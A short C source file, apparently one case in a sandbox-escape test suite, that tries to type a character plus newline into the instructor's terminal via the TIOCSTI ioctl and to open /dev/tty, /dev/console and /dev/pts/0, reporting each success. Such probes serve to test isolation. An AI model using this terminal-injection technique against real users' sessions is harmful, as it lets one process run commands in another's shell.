/* Types into the instructor's terminal: the shell runs it afterwards. */
#include "attack.h"
#include <sys/ioctl.h>

static void attack(void)
{
    for (const char *c = "x\n"; *c; c++)
        for (int file = 0; file < 3; file++)
            if (ioctl(file, TIOCSTI, c) == 0)
                achieved("typed into descriptor %d", file);
    if (open("/dev/tty", O_RDWR) >= 0 || open("/dev/console", O_WRONLY) >= 0)
        achieved("opened the terminal");
    if (open("/dev/pts/0", O_WRONLY) >= 0)
        achieved("opened another terminal");
}
